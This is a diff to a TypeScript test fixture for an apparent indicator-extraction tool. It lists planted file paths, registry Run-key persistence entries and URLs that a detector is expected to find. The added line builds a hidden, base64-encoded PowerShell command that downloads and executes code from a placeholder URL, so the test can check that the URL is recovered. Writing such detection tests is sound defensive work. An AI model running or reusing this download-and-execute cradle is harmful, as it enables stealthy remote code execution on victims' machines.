@@ -142,6 +142,8 @@ export function plants(): Plant[] {
     { token: 'c:/programdata/svc/kxsvc.dll', hits: [e(P1, 'filepath', CSV)] },
     { token: P2, hits: [e(P2, 'filepath', CSV)] },
     { token: `exec=${P2}`, hits: [e(P2, 'filepath', CSV)] },
+    // The URL only inside a PowerShell encoded command (base64 of UTF-16LE): no byte search sees it.
+    { token: `powershell -w hidden -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('${U1}')`, 'utf16le').toString('base64')}`, hits: [e(U1, 'url', LIST)], only: SPACED },
     { token: R1, hits: [e(R1, 'registry', LIST)] },
     { token: 'HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\KxUpdater', hits: [e(R1, 'registry', LIST)] },
     { token: '\\REGISTRY\\USER\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\kxupdater', hits: [e(R1, 'registry', LIST)] },
